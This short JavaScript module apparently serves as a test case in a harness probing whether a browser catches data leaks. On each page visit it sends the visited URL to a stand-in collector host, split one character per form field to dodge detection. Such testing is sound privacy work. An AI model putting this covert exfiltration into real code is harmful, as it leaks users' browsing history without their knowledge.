import { onVisit, reportHonestly, tryTo } from '../../lib/proving.js';

/** Sends the address of each page in a form: one character in each field. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-field-singles');
  onVisit(browser, ({ url }) =>
    tryTo(browser, {
      url: 'https://field-singles.collector.example/v1',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: [...url].map((character, at) => `f${at}=${encodeURIComponent(character)}`).join('&'),
    }),
  );
}
